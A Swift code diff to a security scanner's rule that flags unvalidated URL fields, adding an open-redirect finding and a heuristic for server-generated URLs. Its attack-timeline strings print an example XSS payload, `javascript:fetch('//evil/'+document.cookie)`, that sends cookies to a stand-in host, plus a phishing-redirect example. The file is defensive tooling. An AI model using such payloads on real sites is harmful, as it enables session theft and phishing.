@@ -39,7 +39,9 @@ private struct URLField {
         guard let first = places.max(by: { ($0.confidence, $1.span) < ($1.confidence, $0.span) }) else { return nil }
         var confidence = places.map(\.confidence).max() ?? .low
         // `event.url` in a page, and events are stored without one: the server has made it up.
-        if writes.isEmpty, confidence == .medium, openShows.allSatisfy({ project.schema.makesUp($0.name) }) { confidence = .low }
+        if writes.isEmpty, confidence == .medium, openShows.allSatisfy({ project.schema.makesUp($0.name) || project.makes($0.name) }) {
+            confidence = .low
+        }
         // Both ends are open.
         if confidence == .medium, openWrites.contains(where: { $0.confidence == .medium }), openShows.contains(where: { $0.confidence == .medium }) {
             confidence = .high
@@ -65,8 +67,11 @@ private struct URLField {
         let passive = shows.first?.sink?.passive ?? ""
         let isStored = !writes.isEmpty, isShown = !shows.isEmpty
         let isImage = shows.allSatisfy { $0.sink == .image } && first.name.namesImage
+        let isSent = !isStored && shows.allSatisfy { $0.sink == .redirect }
         let message: String =
-            if isStored, isShown {
+            if isSent {
+                "\(field) is redirected to as it comes, so whoever sets it sends people from your address to any other, as to a copy of your sign-in page."
+            } else if isStored, isShown {
                 "\(field) is stored as it comes and \(passive) later, so whoever sets it to `javascript:…` runs code in the pages of others."
             } else if isStored {
                 "\(field) is stored as it comes: `javascript:…` and `data:text/html,…` are URLs too, and run wherever the field becomes a link."
@@ -75,7 +80,7 @@ private struct URLField {
             }
         return Finding(
             rule: Rule.unsafeURLField.id,
-            severity: isImage ? .note : confidence == .low || !isStored && shows.allSatisfy { $0.sink == .redirect } ? .warning : .error,
+            severity: isImage ? .note : confidence == .low || isSent ? .warning : .error,
             confidence: confidence, message: message,
             help:
                 "Let only http, https, mailto and tel pass, at every write on the server (422 otherwise) and once more where it is shown, for rows that are there already; `new URL(x)` and `z.string().url()` let any scheme pass.",
@@ -86,12 +91,22 @@ private struct URLField {
                 """,
             span: first.span, evidence: evidence,
             timeline: [
-                Moment(.first, "sets \(field) to `javascript:fetch('//evil/'+document.cookie)`", evidence: evidence.firstIndex { $0.span == first.span } ?? 0),
+                Moment(.first, isSent ? "sets \(field) to `https://your-name.example.net/login`" : "sets \(field) to `javascript:fetch('//evil/'+document.cookie)`", evidence: evidence.firstIndex { $0.span == first.span } ?? 0),
                 Moment(
-                    .second, isShown ? "opens the page, and follows the link" : "opens a page that shows it",
+                    .second, isSent ? "follows a link to your address" : isShown ? "opens the page, and follows the link" : "opens a page that shows it",
                     evidence: evidence.lastIndex { $0.role == .effect } ?? evidence.count - 1),
-                Moment(.both, "the code runs as the second, with all that they may do"),
+                Moment(.both, isSent ? "the second lands on the page of the first" : "the code runs as the second, with all that they may do"),
             ], routine: first.routine, table: first.name.contains(".") ? first.name.split(separator: ".").first.map(String.init) : nil)
+    }
+}
+
+extension Project {
+    /// A field under which the project hands out URLs of its own, of nothing that is known to store one.
+    fileprivate func makes(_ name: String) -> Bool {
+        let parts = name.split(separator: ".").map(String.init)
+        guard let field = parts.last, madeURLs.contains(Naming.fold(field)) else { return false }
+        let table = parts.dropLast().last.flatMap { schema.table($0) ?? schema.table($0 + "s") }
+        return table?.holds(field) != true
     }
 }
 
